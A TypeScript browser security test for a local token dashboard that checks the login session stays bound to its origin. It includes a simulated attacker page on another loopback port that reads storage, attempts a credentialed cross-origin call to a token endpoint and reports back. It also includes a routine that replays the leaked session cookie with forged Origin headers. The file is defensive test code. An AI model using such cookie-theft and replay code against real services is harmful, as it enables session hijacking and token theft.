// The dashboard session is bound to its origin, in Debian's Chromium against the real
// loopback server and the built dashboard. A person logs in through the one-time link; a page on
// another loopback port is opened in the same browser and really receives the session cookie
// (cookies ignore ports); replayed from Node, that cookie opens no RPC channel (every one of the
// contract's) and no event stream, and the attacker's page itself can neither read the secret nor
// call the API. The logged-in tab keeps working, also after a reload; a new tab is told how to log in.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { resolve } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type Browser, type BrowserContext, type Page } from 'playwright-core';
import { ensureDashboardBuilt, launchChromium } from '../support/chromium.js';
import { ipcRequestSchemas } from '../../common/contract.js';
import { openEvents, startHarness, type Harness } from '../integration/api-harness.js';
import { untilTrue } from '../support/poll.js';

const ROOT = resolve(import.meta.dirname, '../..');

interface Attacker {
  url: string;
  /** Cookie headers the browser sent to the attacker's port. */
  cookies: string[];
  /** What the attacker's page reported back (its own sessionStorage, its cross-port fetch). */
  reports: string[];
  server: Server;
}

/** Another local origin: a page on its own loopback port that reports what it could get. */
async function startAttacker(dashboardOrigin: string): Promise<Attacker> {
  const cookies: string[] = [];
  const reports: string[] = [];
  const page = `<!doctype html><title>elsewhere</title><script>
    (async () => {
      const report = (what) => fetch('/report', { method: 'POST', body: what });
      await report('storage:' + JSON.stringify(Object.keys(sessionStorage)));
      try {
        const r = await fetch(${JSON.stringify(dashboardOrigin)} + '/ui/rpc/tokens:get', {
          method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '["victim"]',
        });
        await report('fetch:' + r.status + ':' + (await r.text()));
      } catch (e) {
        await report('fetch:blocked');
      }
      await report('done');
    })();
  </script>`;
  const server = createServer((req, res) => {
    if (req.headers.cookie !== undefined) cookies.push(req.headers.cookie);
    if (req.url === '/report') {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        reports.push(body);
        res.end();
      });
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(page);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, cookies, reports, server };
}

describe('dashboard session bound to its origin, in Chromium', () => {
  let h: Harness;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let attacker: Attacker;
  let origin: string;
  const rpcHeaders: Record<string, string>[] = [];

  before(async () => {
    h = await startHarness({ dashboardDir: ensureDashboardBuilt(ROOT) });
    await h.addProfile('redpanda', 'victim');
    origin = `http://127.0.0.1:${h.port}`;
    attacker = await startAttacker(origin);
    browser = await launchChromium();
    context = await browser.newContext();
    context.on('request', (r) => {
      if (r.url().startsWith(`${origin}/ui/rpc/`)) rpcHeaders.push(r.headers());
    });
    page = await context.newPage();
  });

  after(async () => {
    await browser?.close();
    await new Promise((done) => attacker?.server.close(done));
    await h?.close();
  });

  it('logs in through the link; the token leaves the address; RPC carries the tab\'s secret', async () => {
    const link = h.core.server.createLoginLink();
    assert.match(link, /^http:\/\/127\.0\.0\.1:\d+\/login#token=/);
    await page.goto(link);
    await page.locator('[data-profile-id="victim"]').waitFor();
    assert.equal(new URL(page.url()).pathname, '/');
    assert.doesNotMatch(page.url(), /token=/);
    const stored = await page.evaluate('Object.keys(sessionStorage)');
    assert.deepEqual(stored, ['tokentray.session']);
    assert.ok(rpcHeaders.length > 0);
    for (const headers of rpcHeaders) assert.match(headers['x-tokentray-session'] ?? '', /^[A-Za-z0-9_-]{40,}$/);
  });

  it('a page on another loopback port gets the cookie, but neither the secret nor an answer', async () => {
    const other = await context.newPage();
    await other.goto(attacker.url);
    await untilTrue('the attacker page to finish', () => attacker.reports.includes('done'));
    await other.close();
    // The hole is real: the browser sent the session cookie to another port.
    const stolen = attacker.cookies.map((c) => /tokentray_session=([^;]+)/.exec(c)?.[1]).find((v) => v !== undefined);
    assert.ok(stolen, `the attacker's server received tokentray_session=: ${JSON.stringify(attacker.cookies)}`);
    // Its own sessionStorage is its own origin's: empty. Its cross-port call was refused.
    assert.ok(attacker.reports.includes('storage:[]'), JSON.stringify(attacker.reports));
    const fetched = attacker.reports.find((r) => r.startsWith('fetch:')) ?? '';
    assert.ok(fetched === 'fetch:blocked' || /^fetch:(0|401|403):/.test(fetched), fetched);
    assert.doesNotMatch(fetched, /access_token/);

    // Replayed from Node, with the dashboard's own Origin forged: every channel of the contract is 401.
    const cookie = `tokentray_session=${stolen}`;
    const channels = Object.keys(ipcRequestSchemas);
    assert.ok(channels.length >= 16);
    for (const channel of channels) {
      const replays: Record<string, string>[] = [{ Cookie: cookie }, { Cookie: cookie, Origin: origin, 'Sec-Fetch-Site': 'same-origin' }];
      for (const headers of replays) {
        const answer = await h.call('POST', `/ui/rpc/${encodeURIComponent(channel)}`, {
          key: null,
          headers: { ...headers, 'Content-Type': 'application/json' },
          body: '[]',
        });
        assert.equal(answer.status, 401, `${channel}: ${answer.body}`);
        assert.doesNotMatch(answer.body, /access_token|ttk_/);
      }
    }
    const stream = await openEvents(h.port, { Cookie: cookie });
    assert.equal(stream.status, 401);
    stream.close();
    const withOrigin = await openEvents(h.port, { Cookie: cookie, Origin: origin, 'X-Tokentray-Session': stolen as string });
    assert.equal(withOrigin.status, 401, 'the cookie value is not the header secret either');
    withOrigin.close();
  });

  it('the logged-in tab keeps working, live events included, and after a reload', async () => {
    const card = page.locator('[data-profile-id="victim"]');
    await h.core.engine.setPaused('victim', true);
    await card.getByText('paused').first().waitFor();
    await page.reload();
    await card.waitFor();
    await h.core.engine.setPaused('victim', false);
    await card.getByRole('button', { name: 'Pause' }).waitFor();
    await card.getByRole('button', { name: 'Pause' }).click();
    await card.getByText('paused').first().waitFor();
    assert.equal(h.core.engine.statuses().find((s) => s.id === 'victim')?.state, 'paused');
    assert.equal(await page.getByRole('alert').count(), 0);
  });

  it('a new tab has no session: it says so, with `tokentray dashboard`', async () => {
    const fresh = await context.newPage();
    await fresh.goto(`${origin}/`);
    await fresh.getByText(/tokentray dashboard/).first().waitFor();
    assert.match(await fresh.locator('body').innerText(), /new tab needs a new link|each tab needs its own/);
    await fresh.close();
  });
});
